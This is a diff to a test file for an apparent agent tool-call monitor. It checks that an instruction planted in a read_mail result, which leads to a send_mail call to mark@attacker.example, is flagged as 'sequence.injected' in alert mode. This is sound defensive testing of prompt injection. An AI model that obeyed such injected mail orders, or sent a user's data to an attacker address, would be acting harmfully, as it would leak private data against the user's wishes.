@@ -92,8 +92,12 @@ describe("an order in an answer", () => {
   test("is let through and told where the role says alert; off, nothing of it is on record", async () => {
     const told = stand("alert", order);
     await told.call("read_mail", { id: "m-1" });
-    await told.call("send_mail", { to: "mark@attacker.example" });
+    const answer = await told.call("send_mail", { to: "mark@attacker.example" });
     expect(told.sent).toHaveLength(2);
+    const intents = told.records.filter(({ kind, name }) => kind === "intent" && name === "send_mail");
+    expect(intents.map(({ verdict }) => verdict)).toEqual([{ kind: "allow", alerts: expect.arrayContaining([{ rule: "sequence.injected", why: expect.stringContaining("first seen in the answer of read_mail") }]) }]); // prettier-ignore
+    expect(answer).not.toContain("sequence.");
+    expect(JSON.stringify(told.records)).not.toContain("attacker");
     expect(JSON.stringify(told.records)).toContain('"trace":{');
     const off = stand("off", order);
     await off.call("read_mail", { id: "m-1" });
